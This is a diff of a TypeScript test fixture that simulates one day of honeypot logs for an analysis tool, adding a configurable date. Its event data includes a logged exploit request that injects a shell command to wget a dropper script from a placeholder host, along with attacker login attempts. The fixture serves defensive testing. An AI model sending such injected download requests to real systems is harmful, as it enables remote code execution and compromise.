@@ -1,5 +1,5 @@
 /**
- * A hand-written honeypot day (2026-11-01, UTC) in the harmonised event, shaped like what Cowrie,
+ * A hand-written honeypot day (2026-11-01, UTC, unless another is given) in the harmonised event, shaped like what Cowrie,
  * Dionaea, Conpot and our own sensor log: Mirai-like SSH and telnet sessions with credentials,
  * commands, a dropper download, a pushed file, a proxy request, a Dionaea offer without a
  * session, Conpot Modbus requests and an exploit HTTP request; plus one login the next day.
@@ -15,9 +15,10 @@ export const H4 = 'd4'.repeat(32); // a tty log: the honeypot's own recording, n
 /** Honeypot addresses (our sensors) the clients reached. */
 export const SENSOR_ADDRESSES = ['203.0.113.10', '203.0.113.11', '203.0.113.12'] as const;
 
-const at = (hms: string, day = '2026-11-01'): string => `${day}T${hms}.000000Z`;
-
-export function cowrieLikeDay(): HoneypotEventRow[] {
+/** `day` (YYYY-MM-DD, default 2026-11-01) and the day after; a test whose figures depend on today (validity) passes a recent day. */
+export function cowrieLikeDay(day = '2026-11-01'): HoneypotEventRow[] {
+  const next = new Date(Date.parse(`${day}T00:00:00Z`) + 86_400_000).toISOString().slice(0, 10);
+  const at = (hms: string, d = day): string => `${d}T${hms}.000000Z`;
   const a1 = { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'a1', proto: 'ssh', src: '192.0.2.10', src_port: 40001, dst: '203.0.113.10', dst_port: 22, src_asn: 64500, src_country: 'JP' } as const;
   const b1 = { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'b1', proto: 'ssh', src: '198.51.100.7', src_port: 50001, dst: '203.0.113.10', dst_port: 22, src_asn: 64501, src_country: 'CN' } as const;
   const a2 = { honeypot: 'cowrie', sensor: 'hp-osaka', session: 'a2', proto: 'telnet', src: '192.0.2.10', src_port: 40002, dst: '203.0.113.11', dst_port: 23, src_asn: 64500, src_country: 'JP' } as const;
@@ -57,6 +58,6 @@ export function cowrieLikeDay(): HoneypotEventRow[] {
       input: 'GET /shell?cd+/tmp;wget+http://dl.example.net/a.sh', client: 'Hello, World', url: 'http://dl.example.net/a.sh', url_host: 'dl.example.net',
     },
     // The next day: outside a report of 2026-11-01, and what makes it the default window's day.
-    { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'a3', proto: 'ssh', src: '192.0.2.10', dst: '203.0.113.10', dst_port: 22, src_asn: 64500, ts: at('05:00:00', '2026-11-02'), kind: 'login', username: 'guest', password: 'guest', success: 0 },
+    { honeypot: 'cowrie', sensor: 'hp-tokyo', session: 'a3', proto: 'ssh', src: '192.0.2.10', dst: '203.0.113.10', dst_port: 22, src_asn: 64500, ts: at('05:00:00', next), kind: 'login', username: 'guest', password: 'guest', success: 0 },
   ];
 }
